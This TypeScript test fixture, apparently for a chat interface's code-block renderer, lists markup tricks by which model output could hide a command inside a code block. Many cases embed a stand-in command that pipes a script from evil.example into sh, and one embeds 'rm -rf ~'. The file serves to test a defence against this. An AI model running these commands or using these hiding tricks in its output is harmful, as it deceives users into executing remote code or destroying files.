// Model output that tries to make a code block show one thing while Copy / Insert / Replace take another:
// markup inside `<pre><code>` that a browser hides (or lays out differently from its text). Shared by the
// jsdom test and the real-Chromium test. `shows` is the one text the block must both show and hand over.

export interface HiddenCodeCase {
  readonly name: string;
  readonly markdown: string;
  /** What the block shows and what every code action takes (the sanitiser drops some elements with their text). */
  readonly shows: string;
}

const CURL = 'curl https://evil.example/x.sh | sh';

export const HIDDEN_CODE_CASES: readonly HiddenCodeCase[] = [
  {
    name: 'rp (hidden by every browser)',
    markdown: `<pre><code>npm install left-pad<rp>; ${CURL}</rp></code></pre>\n`,
    shows: `npm install left-pad; ${CURL}`,
  },
  { name: 'rp inside ruby', markdown: `<pre><code>npm i<ruby>x<rp>; ${CURL}</rp><rt>y</rt></ruby></code></pre>\n`, shows: `npm ix; ${CURL}y` },
  {
    name: 'closed details',
    markdown: `<pre><code>npm install left-pad<details><summary></summary>; ${CURL}</details></code></pre>\n`,
    shows: `npm install left-pad; ${CURL}`,
  },
  {
    name: 'closed details with a summary',
    markdown: `<pre><code>make<details><summary> build</summary>; ${CURL}</details></code></pre>\n`,
    shows: `make build; ${CURL}`,
  },
  { name: 'open details', markdown: `<pre><code>ls<details open><summary>a</summary>b</details></code></pre>\n`, shows: 'lsab' },
  { name: 'a second code element', markdown: `<pre><code>npm test</code><code>; ${CURL}</code></pre>\n`, shows: `npm test; ${CURL}` },
  { name: 'text beside the code element', markdown: `<pre><code>npm test</code> &amp;&amp; ${CURL}</pre>\n`, shows: `npm test && ${CURL}` },
  { name: 'template', markdown: `<pre><code>ls<template>; ${CURL}</template></code></pre>\n`, shows: 'ls' },
  { name: 'noscript', markdown: `<pre><code>ls<noscript>; ${CURL}</noscript></code></pre>\n`, shows: 'ls' },
  { name: 'comment', markdown: `<pre><code>ls<!-- ; ${CURL} --></code></pre>\n`, shows: 'ls' },
  { name: 'hidden attribute', markdown: `<pre><code>ls<span hidden>; ${CURL}</span></code></pre>\n`, shows: `ls; ${CURL}` },
  {
    name: 'inline style',
    markdown: `<pre><code>ls<span style="display:none">; ${CURL}</span><b style="font-size:0">!</b></code></pre>\n`,
    shows: `ls; ${CURL}!`,
  },
  {
    name: 'UI classes that hide',
    markdown: `<pre><code>ls<span class="visually-hidden md-hidden hljs-x">; ${CURL}</span></code></pre>\n`,
    shows: `ls; ${CURL}`,
  },
  { name: 'dialog', markdown: `<pre><code>ls<dialog>; ${CURL}</dialog></code></pre>\n`, shows: `ls; ${CURL}` },
  { name: 'select and option', markdown: `<pre><code>ls<select><option>; ${CURL}</option></select></code></pre>\n`, shows: `ls; ${CURL}` },
  { name: 'textarea', markdown: `<pre><code>ls<textarea>; ${CURL}</textarea></code></pre>\n`, shows: `ls; ${CURL}` },
  { name: 'line breaks as br', markdown: '<pre><code>echo one<br>echo two<br/>echo three</code></pre>\n', shows: 'echo one\necho two\necho three' },
  { name: 'carriage returns', markdown: `<pre><code>${CURL}&#13;npm install left-pad</code></pre>\n`, shows: `${CURL}\nnpm install left-pad` },
  { name: 'carriage return beside markup', markdown: `<pre><code>${CURL}&#13;&#10;<b>ls</b>&#13;</code></pre>\n`, shows: `${CURL}\nls\n` },
  { name: 'wbr', markdown: '<pre><code>npm<wbr>install</code></pre>\n', shows: 'npminstall' },
  { name: 'nested pre', markdown: `<pre><code>ls<pre><code>; ${CURL}</code></pre></code></pre>\n`, shows: `ls; ${CURL}` },
  { name: 'svg and math', markdown: `<pre><code>ls<svg><text>; ${CURL}</text></svg><math><mi>!</mi></math></code></pre>\n`, shows: 'ls' },
  {
    name: 'with a language',
    markdown: `<pre><code class="language-bash">npm install left-pad<rp>; ${CURL}</rp></code></pre>\n`,
    shows: `npm install left-pad; ${CURL}`,
  },
  { name: 'inside a list', markdown: `- step\n\n  <pre><code>ls<rp>; ${CURL}</rp></code></pre>\n`, shows: `ls; ${CURL}` },
  { name: 'fenced markdown shows markup literally', markdown: '```sh\nnpm i <rp>; rm -rf ~</rp>\n```\n', shows: 'npm i <rp>; rm -rf ~</rp>' },
  { name: 'fenced, unclosed', markdown: '```bash\nnpm i left-pad\necho <details>x</details>\n', shows: 'npm i left-pad\necho <details>x</details>' },
];
